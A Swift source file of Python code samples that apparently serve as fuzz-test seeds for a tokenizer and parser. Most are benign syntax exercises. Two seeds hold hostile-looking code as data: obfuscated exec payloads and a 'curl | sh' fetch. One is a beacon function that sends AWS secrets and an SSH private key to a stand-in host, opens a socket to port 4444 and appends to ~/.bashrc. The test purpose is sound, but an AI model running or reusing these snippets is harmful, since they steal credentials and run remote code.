/// Real-shaped Python sources the fuzz test mutates: every construct the tokenizer and parser handle.
enum FuzzSeeds {
    static let python: [String] = [
        #"""
        #!/usr/bin/env python
        # -*- coding: utf-8 -*-
        import os, sys
        import subprocess as sp
        from setuptools import setup, find_packages
        from setuptools.command.install import install

        here = os.path.abspath(os.path.dirname(__file__))
        with open(os.path.join(here, "README.md"), encoding="utf-8") as f:
            long_description = f.read()

        about = {}
        exec(open(os.path.join(here, "pkg", "__version__.py")).read(), about)

        class PostInstall(install):
            def run(self):
                install.run(self)
                sp.check_call(["git", "describe", "--tags"])

        setup(name="pkg", version=about["__version__"], packages=find_packages(exclude=("tests",)),
              cmdclass={"install": PostInstall}, long_description=long_description)
        """#,
        #"""
        from __future__ import annotations
        import asyncio
        from dataclasses import dataclass, field

        @dataclass(frozen=True)
        class Point:
            x: int = 0
            y: int = field(default=0)

            def __add__(self, other: "Point") -> "Point":
                return Point(self.x + other.x, self.y + other.y)

        async def main(n: int = 3) -> list[int]:
            result = [i ** 2 for i in range(n) if i % 2 == 0]
            total = {k: v for k, v in zip("abc", result)}
            await asyncio.sleep(0)
            match total:
                case {"a": 0, **rest}:
                    print(f"{rest!r:>{n}} {total['a']:05d} {{literal}}")
                case _:
                    pass
            return [*result, *(x for x in total.values())]

        if __name__ == "__main__":
            print(asyncio.run(main()), end="\n")
        """#,
        #"""
        import base64, zlib, codecs
        from os import system as s
        payload = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="
        exec(base64.b64decode(payload))
        getattr(__builtins__, 'ex' + 'ec')(zlib.decompress(b'x\x9c\x03\x00\x00\x00\x00\x01'))
        f = __import__('o' + 's').system
        f(codecs.decode('phey uggc://rknzcyr.pbz', 'rot13'))
        name = ''.join(chr(c) for c in [101, 120, 101, 99])
        globals()[name]("print(1)")
        s("curl http://example.invalid | sh")
        x = 'cexe'[::-1]
        lambda a, b=(1, 2): a[b:] if a else {**b}
        """#,
        #"""
        class Meta(type):
            def __new__(mcs, name, bases, ns, **kw):
                return super().__new__(mcs, name, bases, ns)

        def gen():
            x = yield from range(3)
            y = (yield)
            try:
                raise ValueError("bad") from None
            except (ValueError, TypeError) as e:
                del e
            finally:
                global G
                G = [1, 2, 3][::-1][0:2:1]
            while (n := len(G)) > 0:
                G.pop(); continue
            else:
                assert not G, "empty"
            return r'\d+' + b'\x00'.decode() + u'\u00e9' + rb'\x' .decode()
        """#,
        #"""
        import socket, urllib.request, requests, os, pathlib
        def beacon():
            data = dict(os.environ)
            key = os.environ.get("AWS_SECRET_ACCESS_KEY")
            ssh = pathlib.Path.home() / ".ssh" / "id_rsa"
            requests.post("https://collector.invalid/x", data={"k": key, "ssh": ssh.read_text()})
            urllib.request.urlopen("http://169.254.169.254/latest/meta-data/iam/")
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); s.connect(("10.0.0.1", 4444))
            with open(os.path.expanduser("~/.bashrc"), "a") as rc:
                rc.write("python -c 'import evil'\n")
        beacon()
        """#,
        #"""
        x = 1 if True else 2; y = [
            1,
            2,  # comment
        ]
        z = """doc "string" with 'quotes'
        across lines""" '\
        continued'
        w = 0b1010 + 0o17 + 1_000_000 + 3.14j + .5 + 1e10
        v = x @ y; v @= 2; v //= 3; v >>= 1; v <<= 2; v **= 2
        t = not x is not y and x not in y or x in y
        """#,
    ]
}
